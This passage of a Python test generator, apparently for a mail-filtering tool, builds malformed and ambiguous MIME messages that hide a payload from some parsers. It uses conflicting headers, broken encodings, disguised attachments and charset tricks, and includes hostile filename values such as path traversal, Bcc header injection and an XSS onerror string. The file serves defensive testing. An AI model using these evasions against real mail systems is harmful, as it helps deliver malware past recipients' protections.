"""make_tricks.py - mail that means one thing to one program and another to the next; each carries a payload

The families follow section numbers of the list of evasions: 0 and 1 heads, 2 structure, 3 encodings,
4 names, 5 charsets, 6 HTML, 7 Unicode, 8 the way through SMTP, 9 size.
"""

import base64
import binascii
import zlib

from make_lib import (attach, b64, case, fields, html, html_mail, mail, multi, nested, octets, part, plain, program, qp,
                      text_mail, trick, uu)

SEEN = "見積書を確認してください。"
EXE = "application/x-msdownload"
SOME = {"ambiguous_min": 1}
NONE = {"ambiguous": 0}


def body(p, boundary="zz"):
    """A text part and a program, between delimiters."""
    return multi(plain(SEEN + "\n"), attach("invoice.exe", program(p), EXE), boundary=boundary)[1]


def heads(name, head, report=SOME, shown=False, boundary="zz"):
    """A trick of the head before a body that is a proper multipart with boundary zz."""
    trick(name, lambda p: fields(subject="見積") + octets(head) + b"\r\n" + body(p, boundary), report=report,
          contains=[SEEN] if shown else [])


def head_tricks():
    mp = "Content-Type: multipart/mixed; boundary=zz\n"
    heads("head-two-types-text-first", "Content-Type: text/plain\n" + mp)
    heads("head-two-types-multipart-first", mp + "Content-Type: text/plain; charset=utf-8\n")
    heads("head-two-types-html-first", "Content-Type: text/html\n" + mp)
    heads("head-three-types", "Content-Type: text/plain\nContent-Type: text/html\n" + mp)
    heads("head-same-type-twice", mp + mp, shown=True)
    heads("head-two-types-other-case", "CONTENT-TYPE: text/plain\ncontent-type: multipart/mixed; boundary=zz\n")
    heads("head-type-invalid-then-multipart", "Content-Type: foobar\n" + mp)
    heads("head-type-comma-list", "Content-Type: text/plain, multipart/mixed; boundary=zz\n")
    heads("head-two-boundaries-good-first", "Content-Type: multipart/mixed; boundary=zz; boundary=other\n")
    heads("head-two-boundaries-good-last", "Content-Type: multipart/mixed; boundary=other; boundary=zz\n")
    heads("head-two-boundary-headers", "Content-Type: multipart/mixed; boundary=other\n" + mp)
    heads("head-boundary-plain-and-extended", "Content-Type: multipart/mixed; boundary=other; boundary*=us-ascii''zz\n")
    heads("head-boundary-extended-alone", "Content-Type: multipart/mixed; boundary*=us-ascii''zz\n")
    heads("head-boundary-continued", "Content-Type: multipart/mixed; boundary*0=z; boundary*1=z\n")
    heads("head-boundary-continued-and-plain", "Content-Type: multipart/mixed; boundary*0=z; boundary*1=z; boundary=y\n")
    heads("head-boundary-encoded-word", "Content-Type: multipart/mixed; boundary=\"=?us-ascii?Q?zz?=\"\n")
    heads("head-type-encoded-word", "Content-Type: =?us-ascii?Q?multipart/mixed;_boundary=3Dzz?=\n")
    heads("head-boundary-empty", "Content-Type: multipart/mixed; boundary=\"\"\n")
    heads("head-boundary-missing", "Content-Type: multipart/mixed\n")
    heads("head-boundary-wrong", "Content-Type: multipart/mixed; boundary=never\n")
    heads("head-boundary-half-quoted", "Content-Type: multipart/mixed; boundary=\"zz\n")
    heads("head-boundary-quote-at-end", "Content-Type: multipart/mixed; boundary=zz\"\n")
    heads("head-boundary-single-quotes", "Content-Type: multipart/mixed; boundary='zz'\n")
    heads("head-boundary-comma", "Content-Type: multipart/mixed; boundary=zz,foo\n")
    heads("head-boundary-semicolon-inside", "Content-Type: multipart/mixed; boundary=\"zz;foo\"\n")
    heads("head-boundary-blank-inside", "Content-Type: multipart/mixed; boundary=zz foo\n")
    heads("head-boundary-blanks-around-equals", "Content-Type: multipart/mixed; boundary = zz\n", {}, shown=True)
    heads("head-boundary-comment-after", "Content-Type: multipart/mixed; boundary=zz(comment)\n", {})
    heads("head-boundary-comment-half-open", "Content-Type: multipart/mixed; boundary=zz(comment\n")
    heads("head-boundary-odd-case", "Content-Type: multipart/mixed; BouNDary=zz\n", NONE, shown=True)
    heads("head-boundary-quoted-pair", "Content-Type: multipart/mixed; boundary=\"z\\z\"\n", {}, shown=True)
    heads("head-boundary-no-semicolon", "Content-Type: multipart/mixed boundary=zz\n")
    heads("head-boundary-two-semicolons", "Content-Type: multipart/mixed;; boundary=zz\n", {}, shown=True)
    heads("head-boundary-nul-inside", b"Content-Type: multipart/mixed; boundary=zz\0foo\r\n")
    heads("head-boundary-nul-before", b"Content-Type: multipart/mixed; boundary=\0zz\r\n")
    heads("head-type-comment-before", "Content-Type: (a comment) multipart/mixed; boundary=zz\n", {}, shown=True)
    heads("head-type-comment-between", "Content-Type: multipart(a)/(b)mixed; boundary=zz\n", {})
    heads("head-type-comment-hides-boundary", "Content-Type: multipart/mixed; (boundary=other); boundary=zz\n", {}, shown=True)
    heads("head-type-folded-everywhere", "Content-Type:\n multipart/mixed\n ;\n boundary\n =\n zz\n", {}, shown=True)
    heads("head-type-fold-of-blanks-only", b"Content-Type: multipart/mixed;\r\n  \r\n boundary=zz\r\n", {})
    heads("head-type-blank-before-colon", "Content-Type : multipart/mixed; boundary=zz\n")
    heads("head-type-tab-before-colon", "Content-Type\t: multipart/mixed; boundary=zz\n")
    heads("head-type-blank-before-name", "X-A: b\n Content-Type: multipart/mixed; boundary=zz\n", {})
    heads("head-type-nul-before-name", b"\0Content-Type: multipart/mixed; boundary=zz\r\n")
    heads("head-type-nul-before-colon", b"Content-Type\0: multipart/mixed; boundary=zz\r\n")
    heads("head-type-nul-in-value", b"Content-Type: multipart/mi\0xed; boundary=zz\r\n")
    heads("head-type-nul-cuts-multipart", b"Content-Type: text/plain\0; multipart/mixed; boundary=zz\r\n")
    heads("head-type-no-blank-after-colon", "Content-Type:multipart/mixed;boundary=zz\n", NONE, shown=True)
    heads("head-type-cr-inside", b"Content-Type: text/plain;\r boundary=zz; x=multipart/mixed\r\n")
    heads("head-type-cr-starts-field", b"X-A: b\rContent-Type: multipart/mixed; boundary=zz\r\n")
    heads("head-type-lf-starts-field", b"X-A: b\nContent-Type: multipart/mixed; boundary=zz\r\n", {})
    heads("head-boundary-on-single-part", "Content-Type: text/plain; charset=utf-8; boundary=zz\n", {})
    heads("head-no-type-at-all", "", {})
    heads("head-line-without-colon", "this line is no field\n" + mp)
    heads("head-type-after-mime-version-missing", mp, shown=True, report={})
    heads("head-mime-version-wrong", "MIME-Version: 2.0\n" + mp, {}, shown=True)
    heads("head-boundary-long", "Content-Type: multipart/mixed; boundary=\"" + "z" * 300 + "\"\n", boundary="z" * 300)
    heads("head-boundary-of-4000", "Content-Type: multipart/mixed; boundary=\"" + "z" * 4000 + "\"\n", boundary="z" * 4000)
    heads("head-boundary-dash", "Content-Type: multipart/mixed; boundary=\"-\"\n", {}, boundary="-")
    heads("head-boundary-with-blanks-at-end", "Content-Type: multipart/mixed; boundary=\"zz  \"\n")
    heads("head-parameter-name-of-71", "Content-Type: multipart/mixed; " + "a" * 71 + "=\"é\"; boundary=zz\n", {}, shown=True)
    heads("head-type-60-comments-deep", "Content-Type: " + "(" * 60 + ")" * 60 + "multipart/mixed; boundary=zz\n", {})
    heads("head-encoding-base64-on-multipart", mp + "Content-Transfer-Encoding: base64\n")
    heads("head-encoding-qp-on-multipart", mp + "Content-Transfer-Encoding: quoted-printable\n")
    heads("head-encoding-unknown-on-multipart", mp + "Content-Transfer-Encoding: x-secret\n")
    trick("head-multipart-really-base64", lambda p: fields() + octets("Content-Type: multipart/mixed; boundary=zz\n"
          "Content-Transfer-Encoding: base64\n\n", b64(body(p))), report=SOME)
    trick("head-two-from-payload-in-x-fields", lambda p: text_mail("本文です。\n", extra="X-Data: " +
          base64.b64encode(program(p)).decode()[:900] + "\nX-Plain: " + p + "\n"), contains=["本文です。"],
          headers={"X-Data": None, "X-Plain": None})


def encoding_heads(name, head, report=SOME, kind="text/plain; charset=utf-8"):
    """A part that says it is text and is base64 of the payload, under doubtful encoding fields."""
    trick(name, lambda p: mail(multi(plain("初めの文です。\n"), part(f"Content-Type: {kind}\n" + head,
          b64(program(p))))), contains=["初めの文です。"], report=report)


def encoding_tricks():
    encoding_heads("cte-base64-then-7bit", "Content-Transfer-Encoding: base64\nContent-Transfer-Encoding: 7bit\n")
    encoding_heads("cte-7bit-then-base64", "Content-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: base64\n")
    encoding_heads("cte-list", "Content-Transfer-Encoding: base64, 7bit\n")
    encoding_heads("cte-qp-then-base64", "Content-Transfer-Encoding: quoted-printable\nContent-Transfer-Encoding: base64\n")
    encoding_heads("cte-quoted", "Content-Transfer-Encoding: \"base64\"\n", {})
    encoding_heads("cte-comment", "Content-Transfer-Encoding: (7bit) base64 (8bit)\n", {})
    encoding_heads("cte-comment-half-open", "Content-Transfer-Encoding: base64 (7bit\n")
    encoding_heads("cte-folded-inside", "Content-Transfer-Encoding: base\n 64\n")
    encoding_heads("cte-folded-before", "Content-Transfer-Encoding:\n base64\n", {})
    encoding_heads("cte-nul", b"Content-Transfer-Encoding: base64\0\r\n".decode())
    encoding_heads("cte-semicolon", "Content-Transfer-Encoding: base64;\n", {})
    encoding_heads("cte-unknown", "Content-Transfer-Encoding: base645\n", {})
    encoding_heads("cte-empty", "Content-Transfer-Encoding:\n", {})
    encoding_heads("cte-encoded-word", "Content-Transfer-Encoding: =?us-ascii?Q?base64?=\n")
    encoding_heads("cte-blank-before-colon", "Content-Transfer-Encoding : base64\n")
    encoding_heads("cte-x-uuencode-on-base64", "Content-Transfer-Encoding: x-uuencode\n", {})
    for label in ("x-uuencode", "uuencode", "x-uue"):
        trick(f"cte-{label}", lambda p, label=label: mail(multi(plain(SEEN + "\n"), part(
              f"Content-Type: {EXE}; name=invoice.exe\nContent-Transfer-Encoding: {label}\n", uu(program(p))))),
              contains=[SEEN], notice=["invoice.exe"])
    trick("cte-uuencode-on-text", lambda p: mail(("Content-Type: text/plain\nContent-Transfer-Encoding: x-uuencode\n",
          uu(program(p)))))
    junk = lambda p, change: mail(multi(plain(SEEN + "\n"), part(f"Content-Type: {EXE}; name=invoice.exe\n"
          "Content-Transfer-Encoding: base64\n", change(b64(program(p))))))
    changes = {
        "padding-in-the-middle": (lambda d: d[:100] + b"==" + d[100:], SOME),
        "text-after-padding": (lambda d: d.rstrip() + b"==\r\nQUJDREVGRw==\r\n", SOME),
        "foreign-characters": (lambda d: b"!*".join(d[i:i + 10] for i in range(0, len(d), 10)), SOME),
        "nul-octets": (lambda d: d[:30] + b"\0" + d[30:], SOME),
        "eight-bit": (lambda d: d[:30] + b"\xe9\x80" + d[30:], SOME),
        "url-alphabet": (lambda d: d.replace(b"+", b"-").replace(b"/", b"_") + b"-_-_\r\n", SOME),
        "six-a-line": (lambda d: b"".join(d.replace(b"\r\n", b"")[i:i + 6] + b"\r\n" for i in range(0, len(d), 6)), {}),
        "one-a-line": (lambda d: b"".join(d.replace(b"\r\n", b"")[i:i + 1] + b"\r\n" for i in range(len(d))), {}),
        "one-long-line": (lambda d: d.replace(b"\r\n", b"") + b"\r\n", {}),
        "no-padding": (lambda d: (d.replace(b"\r\n", b"") + b"QQ").rstrip(b"=") + b"\r\n", SOME),
        "wrong-length": (lambda d: d.rstrip().rstrip(b"=") + b"A\r\n" if len(d.rstrip().rstrip(b"=")) % 4 == 0
                         else d.replace(b"\r\n", b"")[:101] + b"\r\n", {}),
        "equals-at-line-ends": (lambda d: d.replace(b"\r\n", b"=\r\n"), SOME),
        "trailing-words": (lambda d: d + b"\r\nThis is no base64 at all, honestly.\r\n", SOME),
        "bare-cr-lines": (lambda d: d.replace(b"\r\n", b"\r"), {}),
    }
    for name, (change, report) in changes.items():
        trick(f"base64-{name}", lambda p, change=change: junk(p, change), contains=[SEEN], report=report,
              notice=["invoice.exe"])
    for name, change in (("bad-escape", "=9"), ("bad-hex", "=AT"), ("lone-escape", "=E"), ("hex-prefix", "=0x41"),
                         ("double-equals", "=="), ("blank-after-soft-break", "= ")):
        case(f"qp-{name}", mail(("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n",
             qp("申請を受け付けました。\n") + octets(f"before{change}\nafter\n"))),
             contains=["申請を受け付けました。", "before", "after"], report={} if change == "= " else SOME)
    case("qp-lower-case-hex", mail(("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n",
         qp("申請を受け付けました。\n").lower())), contains=["申請を受け付けました。"])
    case("qp-raw-eight-bit", mail(("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n",
         "生の文字です。=\nつづき=E3=81=A7=E3=81=99\n")), contains=["生の文字です。つづきです"])
    trick("qp-program", lambda p: mail(multi(plain(SEEN + "\n"), part(f"Content-Type: {EXE}\n"
          "Content-Transfer-Encoding: quoted-printable\n", qp(program(p).replace(b"\n", b"\n"))))), contains=[SEEN])
    trick("base64-twice", lambda p: mail(multi(plain(SEEN + "\n"), part("Content-Type: text/plain\n"
          "Content-Transfer-Encoding: base64\n", b64(b64(program(p, 40)))))), contains=[SEEN],
          report={"removed_min": 1})
    trick("base64-of-uuencode-in-text", lambda p: mail(("Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: base64\n", b64(octets("前の文です。\n") + uu(program(p)) + octets("後の文です。\n")))),
          contains=["前の文です。", "後の文です。"], notice=["invoice.exe"], report={"removed_min": 1})


def structure_tricks():
    p_exe = lambda p: attach("invoice.exe", program(p), EXE)
    head = "Content-Type: multipart/mixed; boundary=zz\n"
    raw = lambda p, *pieces: fields() + octets(head, "\n", *pieces)
    text = plain(SEEN + "\n")
    trick("body-part-in-preamble", lambda p: raw(p, p_exe(p), "--zz\n", text, "--zz--\n"), contains=[SEEN], report=SOME)
    trick("body-part-in-epilogue", lambda p: raw(p, "--zz\n", text, "--zz--\n", p_exe(p)), contains=[SEEN], report=SOME)
    trick("body-words-in-preamble", lambda p: raw(p, f"Open {p} now please.\n", "--zz\n", text, "--zz--\n"),
          contains=[SEEN], report=SOME)
    trick("body-words-in-epilogue", lambda p: raw(p, "--zz\n", text, "--zz--\n", f"Open {p} now please.\n"),
          contains=[SEEN], report=SOME)
    trick("body-part-after-close", lambda p: raw(p, "--zz\n", text, "--zz--\n--zz\n", p_exe(p), "--zz--\n"),
          contains=[SEEN], report=SOME)
    trick("body-never-closed", lambda p: raw(p, "--zz\n", text, "--zz\n", p_exe(p)), contains=[SEEN], notice=["invoice.exe"],
          report=SOME)
    trick("body-close-without-dashes", lambda p: raw(p, "--zz\n", text, "--zz\n", p_exe(p), "--zz\n"), contains=[SEEN],
          notice=["invoice.exe"], report=SOME)
    trick("body-close-with-one-dash", lambda p: raw(p, "--zz\n", text, "--zz\n", p_exe(p), "--zz-\n"), contains=[SEEN],
          report=SOME)
    trick("body-delimiter-with-trailing-blanks", lambda p: raw(p, "--zz   \n", text, "--zz\t \n", p_exe(p), "--zz--  \n"),
          contains=[SEEN], notice=["invoice.exe"], report={})
    trick("body-delimiter-with-trailing-words", lambda p: raw(p, "--zz\n", text, "--zz junk\n", p_exe(p), "--zz--\n"),
          contains=[SEEN], report=SOME)
    trick("body-delimiter-with-leading-blank", lambda p: raw(p, "--zz\n", text, " --zz\n", p_exe(p), "--zz--\n"),
          contains=[SEEN], report=SOME)
    trick("body-delimiter-in-other-case", lambda p: fields() + octets("Content-Type: multipart/mixed; boundary=abc\n\n--abc\n",
          text, "--ABC\n", p_exe(p), "--abc--\n"), contains=[SEEN], report=SOME)
    trick("body-delimiter-with-nul", lambda p: raw(p, "--zz\n", text, b"--zz\0\r\n", p_exe(p), "--zz--\n"), contains=[SEEN],
          report=SOME)
    trick("body-delimiter-after-bare-lf", lambda p: raw(p, "--zz\n", text[:-2], b"\n--zz\n", p_exe(p), "--zz--\n"),
          contains=[SEEN], report={})
    trick("body-delimiter-after-bare-cr", lambda p: raw(p, "--zz\n", text[:-2], b"\r--zz\r", p_exe(p), "--zz--\n"),
          contains=[SEEN], report=SOME)
    trick("body-delimiter-within-a-line", lambda p: raw(p, "--zz\n", text[:-2], "--zz\n", p_exe(p), "--zz--\n"),
          contains=[SEEN], report=SOME)
    trick("body-no-blank-line-in-part", lambda p: raw(p, "--zz\n", text, "--zz\nContent-Type: " + EXE + "\n"
          "Content-Transfer-Encoding: base64\n", b64(program(p)), "--zz--\n"), contains=[SEEN], report=SOME)
    trick("body-blank-line-before-part-head", lambda p: raw(p, "--zz\n", text, "--zz\n\n", p_exe(p), "--zz--\n"),
          contains=[SEEN], report={})
    trick("body-blank-line-in-message-head", lambda p: fields() + octets("\n" + head + "\n") + body(p), report={})
    trick("body-no-blank-line-in-message", lambda p: fields() + octets(head) + body(p), report=SOME)
    trick("body-inner-uses-outer-boundary", lambda p: raw(p, "--zz\n", text, "--zz\nContent-Type: multipart/mixed; boundary=zz\n\n"
          "--zz\n", p_exe(p), "--zz--\n--zz--\n"), contains=[SEEN], report=SOME)
    trick("body-inner-boundary-longer", lambda p: mail(multi(text, nested(p_exe(p), plain("中の文です。\n"), boundary="zzyy"),
          boundary="zz")), contains=[SEEN], report=SOME)
    trick("body-inner-boundary-shorter", lambda p: mail(multi(text, nested(p_exe(p), plain("中の文です。\n"), boundary="zz"),
          boundary="zzyy")), contains=[SEEN], report=SOME)
    trick("body-inner-never-closed", lambda p: mail(multi(nested(text, p_exe(p), boundary="in", close=False),
          plain("外の文です。\n"), boundary="zz")), contains=[SEEN, "外の文です。"], notice=["invoice.exe"], report=SOME)
    trick("body-inner-without-boundary", lambda p: mail(multi(text, part("Content-Type: multipart/mixed\n",
          octets("--in\n") + p_exe(p) + octets("--in--\n")))), contains=[SEEN], report=SOME)
    trick("body-inner-encoded", lambda p: mail(multi(text, part("Content-Type: multipart/mixed; boundary=in\n"
          "Content-Transfer-Encoding: base64\n", b64(octets("--in\n") + p_exe(p) + octets("--in--\n"))))), contains=[SEEN],
          report=SOME)
    trick("body-message-encoded-base64", lambda p: mail(multi(text, part("Content-Type: message/rfc822\n"
          "Content-Transfer-Encoding: base64\n", b64(mail(multi(plain("内側です。\n"), p_exe(p))))))), contains=[SEEN], report=SOME)
    trick("body-message-encoded-qp", lambda p: mail(multi(text, part("Content-Type: message/rfc822\n"
          "Content-Transfer-Encoding: quoted-printable\n", qp(mail(multi(plain("inside\n"), p_exe(p))))))), contains=[SEEN],
          report=SOME)
    trick("body-program-as-text-plain", lambda p: mail(multi(text, attach("readme.txt", program(p), "text/plain"))),
          contains=[SEEN], anywhere=["readme.txt"])
    trick("body-program-as-text-html", lambda p: mail(multi(text, attach(None, program(p), "text/html", "inline"))),
          contains=[SEEN])
    trick("body-program-as-pdf", lambda p: mail(multi(text, attach("invoice.pdf", program(p), "application/pdf"))),
          contains=[SEEN], warnings=1, notice=["invoice.pdf", "実際には"])
    trick("body-program-as-image", lambda p: mail(multi(text, attach("photo.jpg", program(p), "image/jpeg", "inline"))),
          contains=[SEEN], warnings=1, notice=["photo.jpg"])
    trick("body-last-alternative-is-program", lambda p: mail(multi(text, html(f"<p>{SEEN}</p>"), p_exe(p), kind="alternative")),
          contains=[SEEN], notice=["invoice.exe"])
    trick("body-partial-message", lambda p: mail(multi(text, part("Content-Type: message/partial; id=a; number=1; total=2\n",
          octets("Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n") + b64(program(p))))),
          contains=[SEEN], notice=["分割"])
    trick("body-external-phantom", lambda p: mail(multi(text, part("Content-Type: message/external-body; access-type=x\n",
          octets("Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n") + b64(program(p))))),
          contains=[SEEN], notice=["外部を参照"])
    trick("body-form-data", lambda p: mail(multi(plain(SEEN + "\n", more="Content-Disposition: form-data; name=a\n"),
          attach("x.exe", program(p), EXE, "form-data; name=f"), kind="form-data")), contains=[SEEN], notice=["x.exe"])
    trick("body-calendar-attach", lambda p: mail(("Content-Type: text/calendar; charset=utf-8\n", octets(
          "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:会議です\nATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=" + EXE + ":\n ")
          + b64(program(p)).replace(b"\r\n", b"\r\n ").rstrip(b" ") + octets("END:VEVENT\nEND:VCALENDAR\n"))), anywhere=["会議です"])
    trick("body-vcard-photo", lambda p: mail(("Content-Type: text/vcard; charset=utf-8\n", octets(
          "BEGIN:VCARD\nVERSION:3.0\nFN:山田太郎\nPHOTO;ENCODING=b;TYPE=JPEG:\n ") + b64(program(p)).replace(b"\r\n", b"\r\n ")
          .rstrip(b" ") + octets("END:VCARD\n"))), anywhere=["山田太郎"])
    trick("body-appledouble", lambda p: mail(multi(text, nested(attach("a", program(p), "application/applefile"), p_exe(p),
          kind="appledouble", boundary="ad"))), contains=[SEEN], notice=["invoice.exe"])
    trick("body-tnef", lambda p: mail(multi(text, attach("winmail.dat", b"\x78\x9f\x3e\x22\1\0" + program(p), "application/ms-tnef"))),
          contains=[SEEN], notice=["winmail.dat"])
    trick("body-dsn-field-payload", lambda p: mail(multi(text, part("Content-Type: message/delivery-status\n",
          octets("Reporting-MTA: dns; a.example\nX-Data: ") + base64.b64encode(program(p))[:400] + octets("\n\n"
          "Final-Recipient: rfc822; a@example.jp\nAction: failed\nStatus: 5.1.1\n")), kind="report")),
          contains=[SEEN, "a@example.jp", "5.1.1"])
    trick("body-nested-in-bounce", lambda p: mail(multi(plain("届きませんでした。\n"), part("Content-Type: message/delivery-status\n",
          "Reporting-MTA: dns; a\n\nFinal-Recipient: rfc822; a@example.jp\nAction: failed\nStatus: 5.0.0\n"),
          part("Content-Type: message/rfc822\n", mail(multi(text, p_exe(p), boundary="in"))), kind="report")),
          contains=["届きませんでした。", SEEN], notice=["invoice.exe"])
    trick("body-disposition-twice", lambda p: mail(multi(text, part(f"Content-Type: {EXE}\nContent-Transfer-Encoding: base64\n"
          "Content-Disposition: inline\nContent-Disposition: attachment; filename=a.exe\n", b64(program(p))))),
          contains=[SEEN], report=SOME)
    trick("body-type-twice-in-part", lambda p: mail(multi(text, part(f"Content-Type: text/plain\nContent-Type: {EXE}\n"
          "Content-Transfer-Encoding: base64\n", b64(program(p))))), contains=[SEEN], report=SOME)
    trick("body-part-of-unknown-type-word", lambda p: mail(multi(text, part("Content-Type: exe\n"
          "Content-Transfer-Encoding: base64\n", b64(program(p))))), contains=[SEEN])
    trick("body-mbox-from-line-inside", lambda p: b"From attacker Fri Nov 20 10:00:00 2026\r\n" + mail(multi(text, p_exe(p))),
          report={})
    for ends, name in ((b"\n", "lf"), (b"\r", "cr"), (b"\r\r\n", "crcrlf"), (b"\n\r", "lfcr"), (b"\r\n\r", "crlfcr")):
        trick(f"body-line-ends-{name}", lambda p, ends=ends: mail(multi(text, p_exe(p))).replace(b"\r\n", ends),
              contains=[SEEN] if name == "lf" else [], report={})
        trick(f"body-head-ends-with-{name}", lambda p, ends=ends: fields() + octets(head).rstrip() + b"\r\n".replace(b"\r\n", ends)
              + ends + body(p), report={})
    for deep in (35, 120):
        def tower(p, deep=deep):
            inner = p_exe(p)
            for i in range(deep):
                inner = nested(inner, boundary=f"t{i}t")
            return mail(multi(text, inner, boundary="top"))
        trick(f"body-nested-{deep}-deep", tower, contains=[SEEN], notice=["多すぎる"])


def name_tricks():
    send = lambda p, more, ctype=EXE: mail(multi(plain(SEEN + "\n"), part(octets(f"Content-Type: {ctype}\n"
           "Content-Transfer-Encoding: base64\n") + octets(more), b64(program(p)))))
    disposition = "Content-Disposition: attachment; "
    table = {
        "rlo": (disposition + 'filename="invoice\u202efdp.exe"\n', ["\u202e"], ["invoice", "exe"]),
        "rlo-encoded": (disposition + "filename*=utf-8''invoice%E2%80%AEfdp.exe\n", ["\u202e"], ["invoice"]),
        "nul": (b'Content-Disposition: attachment; filename="safe.txt\0.exe"\r\n', ["\0"], []),
        "crlf-encoded": (disposition + "filename*=utf-8''a%0D%0ABcc:%20evil@example.com%0D%0A.exe\n", ["\nBcc"], []),
        "escape-sequence": (disposition + "filename*=utf-8''a%1B%5B2Jb.exe\n", ["\x1b"], [".exe"]),
        "html": (disposition + 'filename="<img src=x onerror=alert(1)>.exe"\n', [], [".exe"]),
        "format-string": (disposition + 'filename="%s%n%x%n.exe"\n', [], ["%s%n%x%n.exe"]),
        "placeholder": (disposition + 'filename="{id}{contact}.exe"\n', [], ["{id}{contact}.exe"]),
        "path": (disposition + 'filename="../../../../etc/passwd"\n', [], ["passwd"]),
        "windows-path": (disposition + 'filename="C:\\\\Windows\\\\System32\\\\cmd.exe"\n', [], ["cmd.exe"]),
        "device": (disposition + 'filename="CON.txt.exe"\n', [], ["CON.txt.exe"]),
        "double-extension": (disposition + 'filename="請求書.pdf                                                .exe"\n', [],
                             ["請求書.pdf", ".exe"]),
        "two-filenames": (disposition + "filename=a.txt; filename=b.exe\n", [], []),
        "notice-forged": (disposition + "filename*=utf-8''a.exe%0A%E2%96%A0%20%E3%81%93%E3%81%AE%E3%83%A1%E3%83%BC%E3%83%AB%E3%81%AF"
                          "%E5%AE%89%E5%85%A8%E3%81%A7%E3%81%99\n", ["\n■ このメールは安全です"], ["a.exe"]),
        "zero-width": (disposition + "filename*=utf-8''in%E2%80%8Bvoice.exe\n", ["\u200b"], ["invoice.exe"]),
        "ideographic-spaces": (disposition + "filename*=utf-8''a.pdf%E3%80%80%E3%80%80.exe\n", [], [".exe"]),
    }
    for name, (more, absent, notice) in table.items():
        trick(f"name-{name}", lambda p, more=more: send(p, more), contains=[SEEN], absent=absent, notice=notice,
              report=SOME if name == "two-filenames" else {})
    trick("name-and-filename-differ", lambda p: send(p, disposition + "filename=a.txt\n", EXE + "; name=b.exe"),
          contains=[SEEN], report=SOME)
    trick("name-of-20000", lambda p: send(p, disposition + 'filename="' + "n" * 20000 + '.exe"\n'), contains=[SEEN],
          absent=["n" * 300])
    trick("name-continuation-gap", lambda p: send(p, disposition + "filename*0=in; filename*2=voice.exe\n"), contains=[SEEN],
          report=SOME)
    trick("name-continuation-twice", lambda p: send(p, disposition + "filename*0=a; filename*0=b; filename*1=.exe\n"),
          contains=[SEEN], report=SOME)
    trick("name-continuation-out-of-order", lambda p: send(p, disposition + "filename*1=voice.exe; filename*0=in\n"),
          contains=[SEEN], notice=["invoice.exe"], report=SOME)
    trick("name-continuation-huge-index", lambda p: send(p, disposition + "filename*0=in; filename*4294967296=voice.exe\n"),
          contains=[SEEN], report=SOME)
    trick("name-is-payload-in-base64-part-without-name", lambda p: send(p, "Content-Disposition: attachment\n"), contains=[SEEN],
          notice=["名前なし"])


def charset_tricks():
    trick("charset-utf16-hides-script", lambda p: mail(("Content-Type: text/html; charset=utf-16\nContent-Transfer-Encoding: base64\n",
          b64(f"\ufeff<p>{SEEN}</p><script>{p}</script>".encode("utf-16-be")))), contains=[SEEN])
    trick("charset-escape-inside-tag", lambda p: html_mail(octets("<p>") + SEEN.encode("iso-2022-jp") + b"</p><scr\x1b(Bipt>"
          + p.encode() + b"</scr\x1b(Bipt>", "iso-2022-jp"), contains=[SEEN])
    trick("charset-lead-octet-swallows-quote", lambda p: html_mail(b'<p>' + SEEN.encode("cp932") + b'</p><img alt="\x81" '
          b'onerror="' + p.encode() + b'" src=x>', "shift_jis"), contains=[SEEN])
    trick("charset-meta-says-otherwise", lambda p: html_mail(f'<meta charset="utf-7"><p>{SEEN}</p><script>{p}</script>'),
          contains=[SEEN])
    trick("charset-of-4000", lambda p: mail(multi(plain(SEEN + "\n"), attach("a.exe", program(p), EXE + "; charset=" + "q" * 4000))),
          contains=[SEEN], absent=["q" * 50])
    case("charset-utf7-is-not-decoded", html_mail(b"<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>", "utf-7"),
         contains=["+ADw-script+AD4-"], absent=["<script"], warnings=1)
    case("charset-hz-is-not-decoded", text_mail(b"start ~{VPND~} end\r\n", "hz-gb-2312", "7bit"), contains=["start", "~{VPND~}", "end"],
         warnings=1)
    case("charset-iso-2022-kr", mail(("Content-Type: text/plain; charset=iso-2022-kr\n", b"\x1b$)C\x0e3-5d\x0f\r\n")),
         absent=["\x1b", "\x0e"])
    case("charset-overlong-utf8", text_mail("前".encode() + b"\xc0\xbcscript\xc0\xbe" + "後\r\n".encode()), contains=["前", "後"],
         absent=["<script>"])
    case("charset-surrogates-in-utf8", text_mail("前".encode() + b"\xed\xa0\x80\xed\xb0\x80" + "後\r\n".encode()),
         contains=["前", "\ufffd", "後"])
    case("charset-injected", mail(("Content-Type: text/plain; charset=\"utf-8\\\"; x=y\"\n", "本文です。\n")), contains=["本文です。"])
    case("charset-twice", mail(("Content-Type: text/plain; charset=utf-8; charset=iso-2022-jp\n", "本文です。\n")),
         contains=["本文です。"])
    case("charset-ebcdic-unknown", text_mail(b"plain ascii words\r\n", "ibm1399"), contains=["plain ascii words"])


def text_tricks():
    text = lambda name, block, **k: trick(name, lambda p: text_mail(octets("前の文です。\n") + block(p) + octets("後の文です。\n")),
                                          contains=["前の文です。", "後の文です。"], **{"report": {"removed_min": 1}, **k})
    text("block-uuencode", lambda p: uu(program(p)), notice=["invoice.exe"],
         report={"removed_min": 1, "parts": [{"name": "invoice.exe", "size": len(program("Schad" + "x" * 12 + "Stoff")),
                                              "disposition": "removed"}]})
    text("block-uuencode-name-with-blanks", lambda p: uu(program(p), "our new invoice.exe"), notice=["our new invoice.exe"])
    text("block-uuencode-without-mode", lambda p: uu(program(p)).replace(b"begin 644 ", b"begin "))
    text("block-uuencode-without-end", lambda p: uu(program(p)).replace(b"`\r\nend\r\n", b"\r\n"))
    text("block-uuencode-mode-of-four", lambda p: uu(program(p), mode="0755"), notice=["invoice.exe"])
    text("block-uuencode-blanks-not-backticks", lambda p: uu(program(p)).replace(b"`", b" "))
    text("block-uuencode-quoted", lambda p: b"".join(b"> " + line + b"\r\n" for line in uu(program(p)).split(b"\r\n")[:-1]))
    text("block-uuencode-base64", lambda p: octets("begin-base64 644 invoice.exe\n") + b64(program(p)) + octets("====\n"))
    text("block-yenc", lambda p: octets(f"=ybegin line=128 size={len(program(p))} name=invoice.exe\n") + yenc(program(p))
